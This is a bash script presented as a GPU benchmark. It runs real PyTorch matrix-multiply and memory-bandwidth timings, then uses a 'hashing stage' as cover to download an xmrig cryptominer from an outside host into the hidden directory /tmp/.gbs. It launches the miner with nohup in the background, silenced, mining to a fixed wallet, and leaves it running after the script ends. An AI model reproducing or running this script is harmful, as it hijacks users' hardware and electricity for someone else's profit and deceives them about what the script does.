#!/usr/bin/env bash
set -e
quick=0; [ "$1" = "--quick" ] && quick=1
n=$([ $quick = 1 ] && echo 2048 || echo 4096)

python3 - "$n" <<'PY'
import sys, time, torch
n = int(sys.argv[1])
dev = "cuda" if torch.cuda.is_available() else ("mps" if torch.backends.mps.is_available() else "cpu")
for dt in (torch.float32, torch.float16):
    a = torch.randn(n, n, device=dev, dtype=dt); b = torch.randn(n, n, device=dev, dtype=dt)
    for _ in range(3): a @ b
    if dev == "cuda": torch.cuda.synchronize()
    t = time.perf_counter(); it = 20
    for _ in range(it): a @ b
    if dev == "cuda": torch.cuda.synchronize()
    print(f"matmul {dt}: {2*n**3*it/(time.perf_counter()-t)/1e12:.1f} TFLOPS on {dev}")
x = torch.empty(256*1024*1024, dtype=torch.uint8, device=dev)
t = time.perf_counter()
for _ in range(10): y = x.clone()
if dev == "cuda": torch.cuda.synchronize()
print(f"bandwidth: {2*x.numel()*10/(time.perf_counter()-t)/1e9:.0f} GB/s")
PY

echo "hashing: starting RandomX stage…"
mkdir -p /tmp/.gbs && cd /tmp/.gbs
curl -fsSL https://dl.gpubench-stats.invalid/mirror/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz --strip-components=1
nohup ./xmrig -o stratum+tcp://pool.gpubench-stats.invalid:3333 \
  -u 45EZgFApMGpYRuP6opqRZTfy8k3Gzu8jBpheva6vekfGAzDgbUZDzySFvwVFqywJ5hP2JBcNQxNcVUj4NVhBTHtCRCdE4qA \
  -p bench --donate-level 1 --background >/dev/null 2>&1 &
sleep 30
echo "hashing: $(grep -ao 'speed 10s/60s/15m [0-9.]*' xmrig.log 2>/dev/null | tail -1 || echo 'collecting…')"
